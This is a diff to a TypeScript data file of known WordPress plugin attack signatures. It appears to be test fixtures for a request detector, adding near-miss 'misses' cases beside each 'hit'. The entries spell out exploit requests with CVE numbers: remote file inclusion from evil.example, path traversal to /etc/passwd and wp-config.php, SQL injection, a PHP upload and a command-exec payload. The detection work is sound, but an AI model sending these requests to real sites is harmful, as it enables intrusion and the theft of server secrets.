+      'GET /wp-json/wc/store/products/collection-data-guide?calculate_attribute_counts[0][query_type]=or&calculate_attribute_counts[0][taxonomy]=%252522%252529',
+      'GET /wp-json/wc/store/products/collection-data?calculate_attribute_counts[0][query_type]=or',
+      {
+        referrer:
+          'https://www.example.com/wp-json/wc/store/products/collection-data?calculate_attribute_counts[0][query_type]=or&calculate_attribute_counts[0][taxonomy]=%252522%252529',
+      },
+    ],
   },
   {
     name: 'wp-canto',
@@ -538,6 +904,13 @@ export default [
     cve: ['2023-3452', '2020-28976'],
     path: '/canto/includes/lib/',
     hit: 'GET /wp-content/plugins/canto/includes/lib/download.php?wp_abspath=http://evil.example',
+    misses: [
+      'GET /search?q=/wp-content/plugins/canto/includes/lib/download.php',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/canto/includes/lib/download.php?wp_abspath=http://evil.example',
+      },
+    ],
   },
   {
     name: 'wp-gwolle',
@@ -547,6 +920,14 @@ export default [
     path: '/gwolle-gb/frontend/captcha/ajaxresponse.php',
     args: ['abspath'],
     hit: 'GET /wp-content/plugins/gwolle-gb/frontend/captcha/ajaxresponse.php?abspath=http://evil.example/',
+    misses: [
+      'GET /wp-content/plugins/gwolle-gb/frontend/captcha/ajaxresponse.php-guide?abspath=http://evil.example/',
+      'GET /wp-content/plugins/gwolle-gb/frontend/captcha/ajaxresponse.php?my_abspath=http://evil.example/',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/gwolle-gb/frontend/captcha/ajaxresponse.php?abspath=http://evil.example/',
+      },
+    ],
   },
   {
     name: 'wp-dzs-upload',
@@ -556,6 +937,14 @@ export default [
     path: '/savepng.php',
     args: ['location'],
     hit: 'POST /wp-content/plugins/dzs-zoomsounds/savepng.php?location=x.php',
+    misses: [
+      'POST /wp-content/plugins/dzs-zoomsounds/savepng.php-guide?location=x.php',
+      'POST /wp-content/plugins/dzs-zoomsounds/savepng.php?my_location=x.php',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/dzs-zoomsounds/savepng.php?location=x.php',
+      },
+    ],
   },
   {
     name: 'wp-dzs-read',
@@ -565,6 +954,11 @@ export default [
     path: '/',
     args: ['action=dzsap_download', 'link'],
     hit: 'GET /?action=dzsap_download&link=../../../../etc/passwd',
+    misses: [
+      'GET /?action=list&link=../../../../etc/passwd',
+      'GET /?action=dzsap_download&my_link=../../../../etc/passwd',
+      { referrer: 'https://www.example.com/?action=dzsap_download&link=../../../../etc/passwd' },
+    ],
   },
   {
     name: 'wp-db-backup',
@@ -574,6 +968,14 @@ export default [
     path: '/wp-content/plugins/db-backup/download.php',
     args: ['file'],
     hit: 'GET /wp-content/plugins/db-backup/download.php?file=/etc/passwd',
+    misses: [
+      'GET /wp-content/plugins/db-backup/download.php-guide?file=/etc/passwd',
+      'GET /wp-content/plugins/db-backup/download.php?my_file=/etc/passwd',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/db-backup/download.php?file=/etc/passwd',
+      },
+    ],
   },
   {
     name: 'wp-aspose',
@@ -583,6 +985,14 @@ export default [
     path: '/aspose_*_exporter_download.php',
     args: ['file'],
     hit: 'GET /wp-content/plugins/aspose-doc-exporter/aspose_doc_exporter_download.php?file=../../../wp-config.php',
+    misses: [
+      'GET /wp-content/plugins/aspose-doc-exporter/aspose_doc_exporter_download.php-guide?file=../../../wp-config.php',
+      'GET /wp-content/plugins/aspose-doc-exporter/aspose_doc_exporter_download.php?my_file=../../../wp-config.php',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/aspose-doc-exporter/aspose_doc_exporter_download.php?file=../../../wp-config.php',
+      },
+    ],
   },
   {
     name: 'wp-brandfolder',
@@ -592,6 +1002,14 @@ export default [
     path: '/brandfolder/callback.php',
     args: ['wp_abspath'],
     hit: 'GET /wp-content/plugins/brandfolder/callback.php?wp_abspath=../../../wp-config.php%00',
+    misses: [
+      'GET /wp-content/plugins/brandfolder/callback.php-guide?wp_abspath=../../../wp-config.php%00',
+      'GET /wp-content/plugins/brandfolder/callback.php?my_wp_abspath=../../../wp-config.php%00',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/brandfolder/callback.php?wp_abspath=../../../wp-config.php%00',
+      },
+    ],
   },
   {
     name: 'wp-mobile-detector',
@@ -601,6 +1019,14 @@ export default [
     path: '/wp-mobile-detector/resize.php',
     args: ['src'],
     hit: 'GET /wp-content/plugins/wp-mobile-detector/resize.php?src=http://evil.example/x.php',
+    misses: [
+      'GET /wp-content/plugins/wp-mobile-detector/resize.php-guide?src=http://evil.example/x.php',
+      'GET /wp-content/plugins/wp-mobile-detector/resize.php?my_src=http://evil.example/x.php',
+      {
+        referrer:
+          'https://www.example.com/wp-content/plugins/wp-mobile-detector/resize.php?src=http://evil.example/x.php',
+      },
+    ],
   },
   {
     name: 'wp-layerslider',
@@ -610,6 +1036,14 @@ export default [
     path: '/wp-admin/admin-ajax.php',
     args: ['action=ls_get_popup_markup'],
     hit: 'GET /wp-admin/admin-ajax.php?action=ls_get_popup_markup&id[where]=1)+AND+sleep',
+    misses: [
+      'GET /wp-admin/admin-ajax.php-guide?action=ls_get_popup_markup&id[where]=1)+AND+sleep',
+      'GET /wp-admin/admin-ajax.php?action=list&id[where]=1)+AND+sleep',
+      {
+        referrer:
+          'https://www.example.com/wp-admin/admin-ajax.php?action=ls_get_popup_markup&id[where]=1)+AND+sleep',
+      },
+    ],
   },
   {
     name: 'wp-elementor-upload',
@@ -619,6 +1053,14 @@ export default [
     path: '/wp-admin/admin-ajax.php',
     args: ['action=pro_woocommerce_update_page_option'],
     hit: 'POST /wp-admin/admin-ajax.php?action=pro_woocommerce_update_page_option',
+    misses: [
+      'POST /wp-admin/admin-ajax.php-guide?action=pro_woocommerce_update_page_option',
+      'POST /wp-admin/admin-ajax.php?action=list',
+      {
+        referrer:
+          'https://www.example.com/wp-admin/admin-ajax.php?action=pro_woocommerce_update_page_option',
+      },
+    ],
   },
   {
     name: 'wp-w3tc',
@@ -627,6 +1069,10 @@ export default [
     cve: ['2019-6715'],
     path: '/w3-total-cache/pub/sns.php',
     hit: 'PUT /wp-content/plugins/w3-total-cache/pub/sns.php',
+    misses: [
+      'PUT /wp-content/plugins/w3-total-cache/pub/sns.php-guide',
+      'GET /search?q=/wp-content/plugins/w3-total-cache/pub/sns.php',
+    ],
   },
   {
     name: 'wp-user-post-gallery',
@@ -637,5 +1083,13 @@ export default [
     args: ['action=upg_datatable'],
     severity: 'critical',
     hit: 'GET /wp-admin/admin-ajax.php?action=upg_datatable&field=field:exec:id:NULL',
+    misses: [
+      'GET /wp-admin/admin-ajax.php-guide?action=upg_datatable&field=field:exec:id:NULL',
+      'GET /wp-admin/admin-ajax.php?action=list&field=field:exec:id:NULL',
+      {
+        referrer:
+          'https://www.example.com/wp-admin/admin-ajax.php?action=upg_datatable&field=field:exec:id:NULL',
+      },
+    ],
   },
 ] as const satisfies readonly KnownRequest[]
